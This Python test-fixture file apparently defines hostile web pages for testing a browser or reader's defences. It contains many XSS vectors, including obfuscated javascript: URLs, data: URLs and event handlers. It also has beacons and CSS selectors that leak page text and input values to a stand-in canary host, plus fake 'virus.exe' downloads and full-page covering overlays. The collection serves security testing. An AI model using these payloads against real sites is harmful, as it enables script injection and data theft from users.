"""Hostile pages, continued: what browsers have learned of late, and what they never forgot.

All written for these tests, like those of `hostile`, whose words they share.
"""

from tests.browser.hostile import CANARY, IMG, JS, PROSE, RAN, SCRIPT, Hostile, page_of, styled

_SVG = "http://www.w3.org/2000/svg"

DOORS = [
    Hostile(
        "addresses in every attribute",
        page_of(
            "".join(
                f'<{tag} {name}="javascript:{JS}">x</{tag}><{tag} {name}="{CANARY}{tag}">x</{tag}>'
                for tag, name in (
                    ("a", "href"), ("area", "href"), ("q", "cite"), ("blockquote", "cite"), ("ins", "cite"),
                    ("body", "background"), ("button", "formaction"), ("form", "action"), ("html", "manifest"),
                    ("img", "longdesc"), ("img", "src"), ("img", "lowsrc"), ("img", "dynsrc"), ("input", "src"),
                    ("link", "href"), ("object", "codebase"), ("table", "background"), ("tr", "background"),
                    ("td", "background"), ("video", "poster"), ("x-ink", "src"), ("frame", "src"),
                )
            )
        ),
    ),
    Hostile(
        "addresses written oddly",
        page_of(
            "".join(
                f'<a href="{scheme}{JS}">Go</a><iframe src="{scheme}{JS}"></iframe>'
                for scheme in (
                    "javascript:", "JAVASCRIPT:", "java&Tab;script:", "java&NewLine;script&colon;", "&#x6A;avascript:",
                    " \x0b\x01javascript:", "javascript&#58;", "javascript://%0a", "feed:javascript:", "jar:javascript:",
                )
            )
            + IMG
        ),
        runs=True,
    ),
    Hostile(
        "data addresses",
        page_of(
            f'<iframe src="data:text/html,<script>parent.postMessage(1)</script>"></iframe>{IMG}'
            f'<object data="data:text/html,{SCRIPT}"></object><embed src="data:image/svg+xml,<svg/>">'
            f'<iframe src="data:text/html,{IMG}"></iframe><a href="data:application/xhtml+xml,<x/>">Go</a>'
            f"<script src=\"data:text/javascript,{JS}\"></script><link rel=stylesheet href=\"data:text/css,p{{background:url({CANARY}d)}}\">"
        ),
        runs=True,
    ),
    Hostile(
        "every handler",
        page_of(
            "".join(
                f'<p tabindex=0 {name}="{JS}">{name}</p>'
                for name in (
                    "onclick ondblclick onauxclick oncontextmenu onmousedown onmouseup onmousemove onmouseenter "
                    "onmouseleave onpointerdown onpointerup onpointermove onpointerrawupdate onwheel onscroll onscrollend "
                    "onscrollsnapchange onkeydown onkeyup onkeypress onfocus onfocusin onblur oninput onbeforeinput "
                    "onbeforematch onbeforetoggle ontoggle oncommand oncopy oncut onpaste ondrag ondragstart ondrop "
                    "onselectstart onselectionchange ontransitionrun onanimationstart oncontentvisibilityautostatechange "
                    "onsecuritypolicyviolation onslotchange ontouchstart onbeforecopy onsearch"
                ).split()
            )
            + IMG
        ),
        runs=True,
    ),
    Hostile(
        "handlers of the window",
        page_of(
            "",
            prose=f'</head><body onload="{JS}" onpageshow="{JS}" onresize="{JS}" onhashchange="{JS}" onmessage="{JS}" '
            f'onblur="{JS}" onunload="{JS}" onbeforeunload="return 1" onpagehide="{JS}">{PROSE}{IMG}',
        ),
        runs=True,
    ),
    Hostile(
        "drawings that move",
        page_of(
            f'<svg xmlns="{_SVG}"><a><set attributeName="href" to="javascript:{JS}"/><text y="20">Go</text></a>'
            f'<animate attributeName="href" values="javascript:{JS}" onend="{JS}" dur="1ms" fill="freeze"/>'
            f'<feImage href="{CANARY}fe"/><image href="{CANARY}im" onload="{JS}" onerror="{JS}"/><handler type="text/javascript">{JS}</handler>'
            f'<style>@import "{CANARY}css"; text {{ fill: url({CANARY}fill#a) }}</style><discard begin="0s"/></svg>'
        ),
        runs=True,
    ),
    Hostile(
        "event scripts",
        page_of(f'<script for="window" event="onload">{JS}</script><script language="vbscript">MsgBox 1</script><script type="text/jscript">{JS}</script>{IMG}'),
        runs=True,
    ),
    Hostile(
        "sockets and beacons",
        page_of(
            f"<script>{JS};fetch('{CANARY}f',{{mode:'no-cors'}});navigator.sendBeacon('{CANARY}b','x');"
            f"new Image().src='{CANARY}i';new WebSocket('{CANARY.replace('http', 'ws')}w');new EventSource('{CANARY}e');"
            f"new Worker('data:text/javascript,importScripts(`{CANARY}k`)');new XMLHttpRequest().open('GET','{CANARY}x')</script>"
        ),
        runs=True,
    ),
    Hostile(
        "dialogs and downloads",
        page_of(
            f"<script>{JS};alert(1);confirm(2);prompt(3);print();const a=document.createElement('a');"
            f"a.href='data:,x';a.download='virus.exe';a.click();onbeforeunload=()=>1</script>"
            f'<a download="virus.exe" href="data:application/octet-stream,x">Get</a><iframe src="data:application/zip,x"></iframe>{IMG}'
        ),
        runs=True,
    ),
    Hostile(
        "frames of every kind",
        page_of(
            f'<iframe srcdoc="<script>{JS}</script><form action={CANARY}f><button>Go" sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups"></iframe>'
            f'<iframe src="about:blank" onload="{JS}"></iframe><iframe srcdoc="{IMG.replace(chr(34), "")}" loading=lazy></iframe>'
            f'<fencedframe config src="{CANARY}ff"></fencedframe><iframe csp="script-src *" allow="camera *" src="{CANARY}csp"></iframe>'
            f'<frame src="{CANARY}fr"><portal src="{CANARY}p"></portal><iframe name="frame" src="{CANARY}name"></iframe>'
        ),
        runs=True,
    ),
]  # fmt: skip

CONTROLS = [
    Hostile(
        "forms that send themselves",
        page_of(
            f'<form action="{CANARY}s"><input name=q autofocus><input type=submit accesskey=j></form>'
            f'<form method=dialog><button autofocus>Close</button></form><input form=x formaction="{CANARY}t" type=submit>'
            f'<form id=x method=post enctype="text/plain" action="{CANARY}x" target=_blank><textarea name=a autofocus>Write</textarea></form>'
            f"<script>document.forms[0].submit()</script>"
        ),
    ),
    Hostile(
        "popovers and commands",
        page_of(
            f'<button popovertarget=p commandfor=d command=show-modal autofocus>Open</button><div popover id=p onbeforetoggle="{JS}" ontoggle="{JS}">Over {IMG}</div>'
            f'<dialog id=d open onclose="{JS}"><form method=dialog><button>OK</button></form>Modal</dialog>'
            f"<button commandfor=p command=--own interestfor=p>Own</button><div popover=manual>Manual</div>"
        ),
        runs=True,
    ),
    Hostile(
        "keys of its own",
        page_of(
            "".join(
                f'<a href="{CANARY}{key}" accesskey="{key}">{key}</a><button accesskey="{key}" onclick="{JS}">{key}</button>'
                for key in "jkvsayn?012u"
            )
            + f'<div tabindex=1 onkeydown="{JS}" autofocus>Focus</div>{IMG}'
        ),
        runs=True,
    ),
    Hostile(
        "what can be written in",
        page_of(
            f'<div contenteditable="plaintext-only" oninput="{JS}" autofocus>Write</div><p contenteditable spellcheck=true>Here</p>'
            f'<script>document.designMode="on";{JS}</script><input list=l><datalist id=l><option>a</datalist>{IMG}'
        ),
        runs=True,
    ),
    Hostile(
        "what can be dragged",
        page_of(
            f'<a draggable=true href="{CANARY}drag" ondragstart="{JS}">Drag</a><img draggable=true src="{CANARY}d.png" ondragend="{JS}">'
            f'<div dropzone="copy" ondragover="event.preventDefault()" ondrop="{JS}" style="height:100px">Drop</div>'
        ),
    ),
    Hostile(
        "what opens and closes",
        page_of(
            f'<details name=a open ontoggle="{JS}"><summary>One</summary>{IMG}</details><details name=a><summary>Two</summary>Text</details>'
            f'<p hidden=until-found onbeforematch="{JS}">Found</p><div style="content-visibility:hidden">Skipped</div>'
        ),
        runs=True,
    ),
    Hostile(
        "elements made to order",
        page_of(
            f"<script>customElements.define('x-run',class extends HTMLElement{{connectedCallback(){{{JS}}}}});"
            f"customElements.define('x-built',class extends HTMLButtonElement{{connectedCallback(){{{JS}}}}},{{extends:'button'}})</script>"
            f'<x-run>Text</x-run><button is="x-built">Press</button><p is="x-built">Par</p>{IMG}'
        ),
        runs=True,
    ),
]

HINTS = [
    Hostile(
        "rules of speculation",
        page_of(
            f'<script type="speculationrules">{{"prerender":[{{"source":"list","urls":["{CANARY}pre"],"eagerness":"immediate"}}],'
            f'"prefetch":[{{"source":"document","where":{{"href_matches":"/*"}},"eagerness":"immediate"}}]}}</script>'
            f'<a href="{CANARY}next">Next</a><link rel=prerender href="{CANARY}p"><link rel=next href="{CANARY}n">{IMG}'
        ),
    ),
    Hostile(
        "connections beforehand",
        page_of(
            "",
            head=f'<link rel=preconnect href="{CANARY}" crossorigin><link rel=dns-prefetch href="//canary.example">'
            f'<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="preload" as=fetch href="{CANARY}pl" crossorigin>'
            f'<link rel=compression-dictionary href="{CANARY}cd"><link rel=modulepreload href="{CANARY}mp">',
        ),
    ),
    Hostile(
        "meta elements",
        page_of(
            IMG,
            head=f'<meta http-equiv=refresh content="1; URL=\'javascript:{RAN}\'"><meta http-equiv="Link" content="<{CANARY}l>; rel=preload">'
            f'<meta http-equiv="origin-trial" content="x"><meta name=viewport content="width=1e9,user-scalable=no"><meta name=color-scheme content=dark>'
            f'<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri {CANARY}r"><meta http-equiv="accept-ch" content="dpr">',
        ),
    ),
    Hostile("two bases", page_of(f'<img src="b.png"><base href="{CANARY}two/"><a href="#x" target="_blank">Go</a>', head=f'<base target=_parent><base href="{CANARY}one/">')),
    Hostile(
        "reports",
        page_of(f'{IMG}<img src="{CANARY}r" attributionsrc="{CANARY}attribution" elementtiming=x><a attributionsrc="{CANARY}as" href="{CANARY}a" target=_blank>Buy</a>'
                f'<script attributionsrc src="{CANARY}t.js"></script><iframe browsingtopics src="{CANARY}bt"></iframe>'),
    ),
]  # fmt: skip

LOOKS = [
    Hostile(
        "style that spies on letters",
        styled(
            "".join(
                f"@font-face{{font-family:spy{n};src:url({CANARY}f{n});unicode-range:U+{0x61 + n:x}}}"
                for n in range(26)
            )
            + "body{font-family:"
            + ",".join(f"spy{n}" for n in range(26))
            + "}"
            + "".join(f"a[href*='{c}' i]{{background-image:url({CANARY}{c})}}" for c in "abcdefgh")
            + f"html:has(input[value^='s']){{--u:url({CANARY}has);background:var(--u)}}h1::first-letter{{background:url({CANARY}fl)}}",
            '<a href="/secret">Go</a><input value="secret">',
        ),
    ),
    Hostile(
        "style in newer words",
        styled(
            f"@property --p{{syntax:'<image>';inherits:true;initial-value:url({CANARY}ip)}}@container (min-width:1px){{p{{background:url({CANARY}ct)}}}}"
            f"@layer a,b;@layer a{{p{{background:url({CANARY}ly)}}}}@scope (body){{p{{border-image:url({CANARY}sc) 1}}}}@supports (a:b) or (display:block){{h1{{list-style-image:url({CANARY}sp)}}}}"
            f"@starting-style{{p{{background:url({CANARY}st)}}}}p{{& b{{background:url({CANARY}ns)}}}}@counter-style c{{system:cyclic;symbols:url({CANARY}cs)}}"
            f"@import url({CANARY}late);li::marker{{content:url({CANARY}mk)}}p{{background:image-set('{CANARY}is' 1x,'{CANARY}is2' type('image/png') 2x)}}"
            f"p{{shape-outside:url({CANARY}so);offset-path:url({CANARY}op#a);clip-path:url({CANARY}cp#a);background:element(#x),paint(ink),-moz-image-rect(url({CANARY}mi),0,0,1,1)}}",
            "<ul><li>One</ul><b>Two</b>",
        ),
    ),
    Hostile(
        "style with line ends in strings",
        styled(
            f"p{{content:'\f;background:url({CANARY}ff);x:'}}h1{{content:\"\r;background:url({CANARY}cr);x:\"}}",
            f"<p style=\"content:'&#12;;background:url({CANARY}at);x:'\">One</p><p style='font-family:\"&#13;;background:url({CANARY}ac);x:\"'>Two</p>",
        ),
    ),
    Hostile(
        "style with broken strings and comments",
        styled(
            f"h1{{background:url({CANARY}0)}}"
            f"p{{a:'}}\n*{{background:url({CANARY}1)}}/*'*/h1{{background:url( /**/{CANARY}2)}}<!--p{{background:URL('{CANARY}3')}}-->"
            f"a{{background:url(\\\n{CANARY}4)}}@media screen{{@media all{{p{{background:u\\0072l({CANARY}5)}}}}}};}}}}p{{background:url({CANARY}6)",
        ),
    ),
    Hostile(
        "covers by variables",
        styled(
            ":root{--p:fixed}.c{position:var(--p);inset:0;z-index:2147483647;background:#fff}.d{position"
            + " " * 60
            + f":fixed;inset:0;background:#fff}}.e{{position:absolute;inset:0;height:99999px;background:url({CANARY}e)}}",
            f'<div class="c">Cover</div><div class="d">Cover</div><div class="e" style="position:fixed!important;top:0">Cover</div>{IMG}',
        ),
    ),
    Hostile(
        "marks repainted",
        styled(
            "::highlight(goldpan-1),::highlight(goldpan-2){background:transparent!important;text-decoration:none!important}"
            f"@layer z{{p::highlight(goldpan-3){{color:transparent!important}}}}::selection{{background:url({CANARY}sel)}}*{{user-select:none!important}}"
            f"p::before{{content:'The council said no. ';background:url({CANARY}b)}}",
        ),
    ),
    Hostile(
        "nothing to be seen",
        styled(
            f"@layer a{{html,body{{display:none!important}}}}html{{opacity:0!important;background:url({CANARY}o)}}h1,p{{display:none!important;transform:scale(0);font-size:0}}",
            IMG,
        ),
    ),
    Hostile(
        "style that moves",
        styled(
            f"@keyframes k{{from{{background:url({CANARY}k1)}}to{{background:url({CANARY}k2)}}}}p{{animation:k 1ms infinite!important}}"
            f"h1{{transition:background 1ms;background:url({CANARY}t)}}h1:hover{{background:url({CANARY}h)}}"
            f"@media print{{body{{background:url({CANARY}print)}}}}@page{{margin:0;background:url({CANARY}pg)}}",
            f'<p style="animation:k 1ms!important" onanimationend="{JS}">Moves</p>',
        ),
        runs=True,
    ),
    Hostile(
        "style that scrolls",
        styled(
            f":target{{background:url({CANARY}tg)}}html{{scroll-snap-type:y mandatory;scroll-behavior:smooth;overscroll-behavior:none}}p{{scroll-snap-align:start}}"
            f"@view-transition{{navigation:auto}}::view-transition-new(root){{background:url({CANARY}vt)}}@scroll-timeline s{{source:auto}}p{{animation:k linear;animation-timeline:view()}}"
            f"p:focus-within,p:active,:root:hover{{background:url({CANARY}a)}}body{{background:url({CANARY}b)}}",
            '<a href="#:~:text=bridge">Text</a><a href="#x" id="x">X</a>',
        ),
    ),
    Hostile(
        "style of a huge page",
        styled(
            "p{font-size:1e7px!important;line-height:1e7;width:1e9px;height:1e9px;box-shadow:0 0 99999px red;filter:blur(999px)!important}"
            "body{display:grid;grid-template-columns:repeat(9999,1px);columns:999;zoom:99;perspective:1px;rotate:x 45deg}*{counter-increment:a 99999999}",
            IMG,
        ),
    ),
    Hostile(
        "sheets of every medium",
        page_of(
            "",
            head=f'<style media="print">p{{background:url({CANARY}p)}}</style><style media="all}}}}*{{background:url({CANARY}m)}}">p{{color:red}}</style>'
            f'<style media="(min-width:1px)">p{{background:url({CANARY}w)}}</style><style type="text/less">p{{background:url({CANARY}l)}}</style>'
            f'<link rel="alternate stylesheet" title=x href="{CANARY}alt"><style title=a nonce=x blocking=render>@import "{CANARY}i"</style>',
        ),
    ),
]

PAGES = [*DOORS, *CONTROLS, *HINTS, *LOOKS]
